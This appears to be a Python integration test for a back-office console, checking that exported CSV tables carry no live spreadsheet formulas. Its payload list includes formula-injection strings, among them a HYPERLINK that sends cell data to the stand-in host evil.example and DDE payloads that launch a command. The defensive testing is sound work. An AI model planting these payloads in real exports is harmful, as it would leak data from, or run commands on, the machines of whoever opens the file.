"""No cell of any table we hand out is a formula to the program that opens it."""

from __future__ import annotations

import csv
from io import StringIO

from starlette.testclient import TestClient

from backoffice.tables import RUNS
from tests.integration.console.hostile import walking
from tests.integration.console.hostile.conftest import entered
from tests.integration.console.hostile.filling import fill_with
from tests.integration.console.world import World

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1',
    'a","=1+1',
    "a\r\n=1+1",
]
"""OWASP, CSV Injection; and what would end a cell before its time."""


def tables(client: TestClient, world: World) -> dict[str, list[list[str]]]:
    """The cells of every table of the console, by its address."""
    paths = [each.path for each in walking.pages(world) if each.path.endswith(".csv")]
    answers = {path: client.get(path).text.removeprefix("\ufeff") for path in paths}
    return {path: list(csv.reader(StringIO(text, newline=""))) for path, text in answers.items()}


def test_no_cell_begins_as_a_formula(house: World) -> None:
    fill_with(house, FORMULAS)
    found = tables(entered(house), house)

    assert len(found) >= 2
    for path, rows in found.items():
        running = [cell for row in rows for cell in row if cell.startswith(RUNS)]
        assert (path, running) == (path, [])
        assert {len(row) for row in rows} == {len(rows[0])}, path


def test_every_cell_keeps_what_stood_there(house: World) -> None:
    fill_with(house, FORMULAS)
    for path, rows in tables(entered(house), house).items():
        cells = {cell for row in rows for cell in row}
        lost = [text for text in FORMULAS if not {text, f"'{text}"} & cells]
        assert (path, lost) == (path, [])
